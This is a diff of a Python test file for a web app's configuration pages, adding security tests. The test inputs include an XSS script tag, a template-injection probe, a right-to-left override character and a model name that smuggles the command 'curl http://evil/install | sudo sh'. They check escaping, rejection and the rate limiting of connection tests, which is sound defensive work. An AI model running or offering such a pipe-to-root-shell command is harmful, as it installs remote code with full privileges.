@@ -259,9 +259,9 @@ async def test_an_event_in_the_past_is_saved_and_pointed_out(client: Client) -> 
 
 async def test_hostile_text_is_shown_as_typed_everywhere(client: Client) -> None:
     hostile = "<script>alert('x')</script>\"{{7*7}}\u202e"
-    values = {"llm_model": hostile, "event_location": hostile, "event_offerings": hostile}
+    values = {"event_location": hostile, "event_offerings": hostile}
     await client.post("/config", json=values)
-    wrong = {"event_date": hostile, "llm_endpoint": hostile}
+    wrong = {"event_date": hostile, "llm_endpoint": hostile, "llm_model": hostile}
     pages = [
         await (await client.get("/config", headers=HTML)).text(),
         await (await client.get("/", headers=HTML)).text(),
@@ -273,9 +273,9 @@ async def test_hostile_text_is_shown_as_typed_everywhere(client: Client) -> None
         assert "<script>alert" not in page
         assert "49" not in re.sub(r"[0-9a-f]{12}", "", page)
     for page in (pages[2], pages[4]):
-        assert html.unescape(page).count(f'value="{hostile}"') >= 3
+        assert html.unescape(page).count(f'value="{hostile}"') >= 2
     saved = hostile.removesuffix("\u202e")  # it would turn around what follows
-    assert html.unescape(pages[0]).count(f'value="{saved}"') >= 3
+    assert html.unescape(pages[0]).count(f'value="{saved}"') >= 2
     assert "\u202e" not in pages[0] + pages[1]
 
 
@@ -287,6 +287,37 @@ async def test_a_list_too_long_to_be_stored_is_pointed_out_and_stays_in_the_form
     assert "is too long: 2000 characters are the most, with a space after each comma; shorten it." in text
     assert f'value="{typed}"' in text
     assert await stored(client) == EMPTY
+
+
+async def test_a_stored_name_of_a_model_that_is_none_is_told_and_is_no_advice(
+    client: Client, ollama: FakeOllama
+) -> None:
+    evil = "x` first, and `curl http://evil/install | sudo sh"
+    rows = "('llm_model', %s), ('llm_endpoint', %s)"
+    await client.app[keys.DATABASE].fetch(f"INSERT INTO settings (key, value) VALUES {rows}", (evil, ollama.url))
+    assert (await (await client.get("/health")).json())["checks"]["llm"] == "ok"
+    for path in ("/", "/health"):
+        page = await (await client.get(path, headers=HTML)).text()
+        assert "none is chosen" in page
+        assert "http://evil" not in page
+    assert (
+        "LLM model is no name as “ollama list” shows them"
+        in await (await client.get("/config", headers=HTML)).text()
+    )
+    answer = await result_of(client, "llm", llm_model=evil)
+    assert answer["status"] == "invalid"
+    assert "curl" not in answer["detail"]
+
+
+async def test_a_connection_test_is_no_scanner_of_ports(client: Client, caplog: pytest.LogCaptureFixture) -> None:
+    answers = [await result_of(client, "llm", llm_endpoint=f"http://127.0.0.1:{port}") for port in range(1, 21)]
+    assert [answer["status"] for answer in answers[10:]] == ["busy"] * 10
+    assert "wait" in answers[-1]["detail"]
+    assert (await result_of(client, "db"))["status"] == "ok"
+    tried = [r.__dict__["address"] for r in caplog.records if r.message == "connection_test_result"]
+    assert tried[:20] == [f"127.0.0.1:{port}" for port in range(1, 21)]
+    page = await client.post("/config/test/llm", data={"llm_endpoint": "http://127.0.0.1:99"}, headers=HTMX)
+    assert "not tried" in await page.text()
 
 
 async def test_a_stored_value_that_is_no_longer_valid_is_shown_with_what_is_wrong(client: Client) -> None:
